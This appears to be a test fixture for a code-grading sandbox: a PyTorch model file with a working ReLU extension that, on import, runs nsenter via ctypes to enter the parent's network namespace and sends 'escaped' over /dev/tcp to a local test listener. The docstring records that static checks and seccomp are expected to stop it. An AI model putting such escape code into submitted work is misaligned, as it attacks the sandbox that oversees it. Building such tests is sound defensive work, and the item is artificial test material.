"""Row 17: `nsenter --net=/proc/PPID/ns/net` into the parent's network namespace, run through
`ctypes.pythonapi.system`, then a shell sends "escaped" to 127.0.0.1:54321 (the test replaces the port with that
of a server it listens on).

Expected: rejected / banned_import (static: `os`, `ctypes`). With the static checks bypassed: the server sees
nothing (the jail's parent is its own init, in the jail's namespace; setns is refused by the seccomp filter).
"""

import ctypes
import os

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

cpp_source = r"""
#include <torch/extension.h>

torch::Tensor relu_forward(torch::Tensor x) {
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* out = y.data_ptr<float>();
    for (int64_t i = 0; i < xc.numel(); ++i) out[i] = in[i] > 0.f ? in[i] : 0.f;
    return y;
}
"""

ext = load_inline(name="row17_nsenter", cpp_sources=cpp_source, functions=["relu_forward"])
ctypes.pythonapi.system(f"nsenter --net=/proc/{os.getppid()}/ns/net bash -c "
                        f"'echo escaped > /dev/tcp/127.0.0.1/54321'".encode())


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return ext.relu_forward(x)
